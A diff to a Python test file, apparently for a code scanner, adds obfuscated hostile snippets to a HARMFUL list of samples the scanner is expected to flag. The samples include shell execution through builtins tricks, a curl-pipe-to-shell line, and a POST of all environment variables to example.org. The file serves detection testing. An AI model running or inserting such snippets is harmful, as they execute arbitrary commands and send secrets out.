@@ -12,6 +12,10 @@ from hypothesis import strategies as st
 from vallum.models.scan import Verdict, scan
 
 HARMFUL = [
+    "from subprocess import *\nPopen('id', shell=True)",
+    "import builtins\ngetattr(builtins, 'exec')('import os')",
+    "o = __builtins__['__import__']('os')\no.system('id')",
+    "import http.client, os\nc = http.client.HTTPSConnection('example.org')\nc.request('POST', '/', body=str(dict(os.environ)))",
     "import os\nos.system('id')",
     "from os import system as s\ndef f():\n    s('curl http://example.org/x | sh')",
     "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
